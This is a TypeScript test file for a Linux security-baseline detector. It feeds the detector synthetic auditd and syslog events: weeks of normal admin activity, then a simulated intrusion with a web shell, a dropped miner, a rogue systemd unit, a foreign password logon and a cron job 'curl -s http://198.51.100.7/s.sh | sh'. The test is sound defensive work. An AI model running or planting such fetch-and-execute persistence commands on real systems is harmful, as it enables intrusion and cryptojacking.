import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { SocEvent } from '@intersoc/core';
import { BaselineEngine, type BaselineHit } from './engine.js';
import { cronJob, systemdUnit, threadLinuxTracker, unitKey } from './linux.js';
import { BaselineObserver } from './observe.js';
import { DAY_MS, HOUR_MS, type BaselineSettings } from './types.js';

const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
function tmpFile(): string {
  const d = mkdtempSync(path.join(tmpdir(), 'intersoc-baselines-linux-'));
  dirs.push(d);
  return path.join(d, 'baselines.db');
}

const T0 = Date.UTC(2026, 0, 5, 0); // Monday 00:00 UTC
const FAST: Partial<BaselineSettings> = { warmupDays: 7, warmupObservations: 20 };
let seq = 0;
let serial = 1000;

/**
 * Events shaped as the auditd and syslog parsers emit them (fields as text, ECS projected; see
 * packages/ingest/src/parsers/auditd/body.ts and syslog/programs.ts). The apps/node test runs the
 * real parsers on simulated and corpus lines.
 */
function ev(
  tenant: string,
  time: number,
  format: string,
  ecs: Record<string, string | number>,
  fields: Record<string, string | number> = {},
): SocEvent {
  return {
    id: `l${++seq}`,
    time,
    ingested: time,
    tenant,
    source: { format, kind: 'file', name: 't', peer: 'web-01' },
    raw: '',
    fields,
    ecs,
  };
}

/** An execve as auditd logs it: SYSCALL then EXECVE records of one serial (no node=: the host is the peer). */
function exec(tenant: string, t: number, pid: number, ppid: number, exe: string, argv: string[]): SocEvent[] {
  const s = ++serial;
  const comm = exe.slice(exe.lastIndexOf('/') + 1);
  return [
    ev(
      tenant,
      t,
      'auditd',
      {
        'event.action': 'syscall',
        'event.category': 'process',
        'process.pid': pid,
        'process.parent.pid': ppid,
        'process.executable': exe,
        'process.name': comm,
        'event.outcome': 'success',
      },
      {
        type: 'SYSCALL',
        'audit.serial': s,
        arch: 'c000003e',
        syscall: '59',
        success: 'yes',
        pid: `${pid}`,
        ppid: `${ppid}`,
        auid: '1000',
        exe,
        comm,
      },
    ),
    ev(
      tenant,
      t,
      'auditd',
      { 'event.action': 'execve', 'event.category': 'process', 'process.command_line': argv.join(' ') },
      { type: 'EXECVE', 'audit.serial': s, argc: `${argv.length}` },
    ),
  ];
}

/** A PAM record written by the sshd process of a session (pid → /usr/sbin/sshd). */
function userAcct(tenant: string, t: number, pid: number, user: string): SocEvent {
  return ev(
    tenant,
    t,
    'auditd',
    {
      'event.action': 'user_acct',
      'event.category': 'authentication',
      'process.pid': pid,
      'process.executable': '/usr/sbin/sshd',
      'user.name': user,
      'event.outcome': 'success',
    },
    { type: 'USER_ACCT', 'audit.serial': ++serial, pid: `${pid}`, exe: '/usr/sbin/sshd', acct: user, res: 'success' },
  );
}

function syslog(tenant: string, t: number, app: string, message: string, ecs: Record<string, string> = {}): SocEvent {
  return ev(tenant, t, 'syslog', { 'host.name': 'web-01', 'process.name': app, message, ...ecs }, { message });
}

function accepted(tenant: string, t: number, user: string, ip: string, method: string): SocEvent {
  return syslog(tenant, t, 'sshd', `Accepted ${method} for ${user} from ${ip} port 50022 ssh2`, {
    'event.category': 'authentication',
    'event.outcome': 'success',
    'event.action': 'ssh_login',
    'user.name': user,
    'source.ip': ip,
  });
}

function serviceStart(tenant: string, t: number, unit: string): SocEvent {
  return ev(
    tenant,
    t,
    'auditd',
    {
      'event.action': 'service_start',
      'process.pid': 1,
      'process.executable': '/usr/lib/systemd/systemd',
      'event.outcome': 'success',
    },
    {
      type: 'SERVICE_START',
      'audit.serial': ++serial,
      pid: '1',
      unit,
      exe: '/usr/lib/systemd/systemd',
      res: 'success',
    },
  );
}

/** One admin session: sshd (pid p) logs alice on, starts bash, bash runs ls. */
function session(tenant: string, t: number, p: number, ip = '10.0.0.5', method = 'publickey'): SocEvent[] {
  return [
    userAcct(tenant, t, p, 'alice'),
    accepted(tenant, t + 1, 'alice', ip, method),
    syslog(tenant, t + 2, 'systemd', `Started Session ${p} of User alice.`),
    ...exec(tenant, t + 3, p + 1, p, '/usr/bin/bash', ['-bash']),
    ...exec(tenant, t + 4, p + 2, p + 1, '/usr/bin/ls', ['ls', '-la']),
  ];
}

/**
 * Eight days of web-01: nginx started once (its parent unknown), three admin sessions a day,
 * hourly cron, three daily units.
 */
function history(tenant: string): SocEvent[] {
  const out: SocEvent[] = [
    ...exec(tenant, T0 + 60_000, 700, 1, '/usr/sbin/nginx', ['nginx']),
    serviceStart(tenant, T0 + 61_000, 'nginx'),
  ];
  for (let d = 0; d < 8; d++) {
    for (let h = 0; h < 24; h++)
      out.push(
        syslog(
          tenant,
          T0 + d * DAY_MS + h * HOUR_MS + 17 * 60_000,
          'CRON',
          '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)',
        ),
      );
    for (const u of [
      'apt-daily.service - Daily apt download activities',
      'logrotate.service - Rotate log files',
      'man-db.service - Daily man-db regeneration',
    ])
      out.push(syslog(tenant, T0 + d * DAY_MS + 6 * HOUR_MS, 'systemd', `Started ${u}.`));
    for (let i = 0; i < 3; i++)
      out.push(...session(tenant, T0 + d * DAY_MS + (9 + i) * HOUR_MS, 10_000 + d * 100 + i * 10));
  }
  return out.sort((a, b) => a.time - b.time);
}

const DAY30 = T0 + 30 * DAY_MS + 10 * HOUR_MS;

/** Day 30: an ordinary session, then a web shell, a dropped binary, a new cron job and unit, a password logon from outside. */
function attack(tenant: string, at = DAY30): SocEvent[] {
  const DAY30 = at;
  return [
    ...session(tenant, DAY30, 50_000),
    ...exec(tenant, DAY30 + 60_000, 50_100, 700, '/bin/sh', ['sh', '-c', 'id']),
    ...session(tenant, DAY30 + 120_000, 50_200, '203.0.113.9', 'password'),
    ...exec(tenant, DAY30 + 180_000, 50_300, 50_201, '/tmp/.x/miner', ['/tmp/.x/miner', '-o', 'pool']),
    syslog(tenant, DAY30 + 240_000, 'CRON', '(www-data) CMD (curl -s http://198.51.100.7/s.sh | sh)'),
    syslog(tenant, DAY30 + 241_000, 'CRON', '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)'),
    serviceStart(tenant, DAY30 + 300_000, 'kworkerd'),
    syslog(tenant, DAY30 + 300_001, 'systemd', 'Started kworkerd.service - kworkerd.'),
    syslog(tenant, DAY30 + 300_002, 'systemd', 'Started session-50231.scope - Session 50231 of User alice.'),
    // A service account that never used ssh: no history of its own, but web-01 has one of logons.
    accepted(tenant, DAY30 + 360_000, 'deploy', '203.0.113.9', 'password'),
  ];
}

/** The novelty alerts (the hand-built days are not a steady stream: rates and silences are tested elsewhere). */
function novelty(hits: readonly BaselineHit[]): BaselineHit[] {
  return hits.filter((h) => !/^baseline:(silence|rate)-/.test(h.alert.detector.ruleId));
}

describe('Linux baselines', () => {
  it('names the pieces of systemd and cron lines', () => {
    expect(systemdUnit('Started nginx.service - A high performance web server.')).toBe('nginx.service');
    expect(systemdUnit('Starting apt-daily.service - Daily apt download activities...')).toBe('apt-daily.service');
    expect(systemdUnit('Started Daily apt download activities.')).toBe('Daily apt download activities');
    expect(systemdUnit('Started Session 42 of User alice.')).toBeUndefined();
    expect(systemdUnit('Started session-42.scope - Session 42 of User alice.')).toBeUndefined();
    expect(systemdUnit('Stopped nginx.service.')).toBeUndefined();
    expect(unitKey('run-r3f2a9c0d1e2f3a4b.service')).toBe('run-r*.service');
    expect(unitKey('user@1000.service')).toBe('user@#.service');
    expect(cronJob('(root) CMD (   cd / &&  run-parts --report /etc/cron.hourly)')).toEqual({
      user: 'root',
      command: 'cd / && run-parts --report /etc/cron.hourly',
    });
    expect(cronJob('(alice) REPLACE (alice)')).toBeUndefined();
  });

  it('learns web-01 silently, then says what is new against its 30 days of history', () => {
    const engine = new BaselineEngine(tmpFile(), FAST);
    const obs = new BaselineObserver();
    obs.detect(history('acme'));
    expect(novelty(engine.push(obs.takeObservations()))).toEqual([]);
    // nginx was started by pid 1, whose program the tracker never saw: counted, not guessed.
    expect(obs.linux.unresolved).toBe(1);
    obs.detect(attack('acme'));
    const hits = novelty(engine.push(obs.takeObservations()));
    const summaries = hits.map((h) => h.alert.summary.split(' (')[0]);
    // 48 pairs (sshd → bash, bash → ls, 3 sessions × 8 days) + the day's first session's 2 before the web shell.
    expect(summaries).toEqual([
      'first time in 30 days that /usr/sbin/nginx started /bin/sh on web-01',
      'first logon of alice from 203.0.113.9 in 30 days',
      'first logon of alice with logon type ssh/password in 30 days',
      'first time in 30 days that /usr/bin/bash started /tmp/.x/miner on web-01',
      'first time in 30 days that cron ran "curl -s http://198.51.100.7/s.sh | sh" as www-data on web-01',
      'first time in 30 days that systemd unit kworkerd started on web-01',
      'first logon of deploy to web-01 in 30 days',
    ]);
    expect(hits[6]?.alert.summary).toContain(
      'in 30 days (ssh/password from 203.0.113.9) (30 days of history since 2026-01-05: 26 logons, 1 distinct user logging on)',
    );
    expect(hits[6]?.alert.techniques).toEqual(['T1021.004', 'T1078']);
    const shell = hits[0]?.alert;
    expect(shell?.summary).toContain('50 process starts, 2 distinct parent → child processes');
    expect(shell?.techniques).toEqual(['T1059.004', 'T1505.003']);
    expect((shell?.details as { context: Record<string, string> }).context['process.command_line']).toBe('sh -c id');
    expect(hits[3]?.alert.summary).toContain('53 process starts, 3 distinct');
    // 192 hourly runs, then the day-30 job is the 193rd; the known hourly job after it is not new.
    expect(hits[4]?.alert.summary).toContain('192 cron runs, 1 distinct cron job');
    expect(hits[4]?.alert.techniques).toEqual(['T1053.003']);
    expect(hits[5]?.alert.techniques).toEqual(['T1543.002']);
    // 24 logons from 10.0.0.5 + the day's first: the 26th comes from a new address.
    expect(hits[1]?.alert.summary).toContain('25 logons, 1 distinct logon source address');
    expect(hits[1]?.alert.entities).toContainEqual({ type: 'ip', value: '203.0.113.9', role: 'source' });
    engine.close();
  });

  it('keeps Linux baselines across a restart (the pid table is the parse thread’s and starts empty)', () => {
    const file = tmpFile();
    const first = new BaselineEngine(file, FAST);
    const o1 = new BaselineObserver();
    o1.detect(history('acme'));
    first.push(o1.takeObservations());
    first.close();
    const second = new BaselineEngine(file, FAST);
    const o2 = new BaselineObserver();
    o2.detect(attack('acme'));
    const rules = novelty(second.push(o2.takeObservations())).map((h) => h.alert.summary.split(' (')[0]);
    // Everything but the web shell: nginx's pid was learned before the restart.
    expect(rules).toHaveLength(6);
    expect(rules).not.toContain('first time in 30 days that /usr/sbin/nginx started /bin/sh on web-01');
    expect(o2.linux.unresolved).toBe(1);
    second.close();
  });

  it('keeps the thread’s pid table when the detectors are rebuilt (a rule reload)', () => {
    const first = new BaselineObserver(threadLinuxTracker());
    first.detect(exec('acme', T0, 700, 1, '/usr/sbin/nginx', ['nginx']));
    const rebuilt = new BaselineObserver(threadLinuxTracker());
    rebuilt.detect(exec('acme', T0 + 1, 701, 700, '/bin/sh', ['sh', '-c', 'id']));
    expect(rebuilt.takeObservations().filter((o) => o.type === 'novelty')).toMatchObject([
      { kind: 'process-pair', item: '/usr/sbin/nginx>/bin/sh', context: { 'process.command_line': 'sh -c id' } },
    ]);
    // A fresh tracker would not have named the parent.
    const fresh = new BaselineObserver();
    fresh.detect(exec('acme', T0 + 1, 701, 700, '/bin/sh', ['sh', '-c', 'id']));
    expect(fresh.linux.unresolved).toBe(1);
  });

  it('learns from each tenant’s own Linux events only', () => {
    const engine = new BaselineEngine(tmpFile(), FAST);
    const obs = new BaselineObserver();
    // `other` saw the same activity on its day 3, while warming up: it knows all of it.
    obs.detect(history('acme'));
    obs.detect(
      [...history('other'), ...attack('other', T0 + 3 * DAY_MS + 10 * HOUR_MS)].sort((a, b) => a.time - b.time),
    );
    expect(novelty(engine.push(obs.takeObservations()))).toEqual([]);
    obs.detect(attack('acme'));
    obs.detect(attack('other'));
    const hits = novelty(engine.push(obs.takeObservations()));
    expect(hits.map((h) => h.tenant)).toEqual(Array.from({ length: 7 }, () => 'acme'));
    engine.close();
  });
});
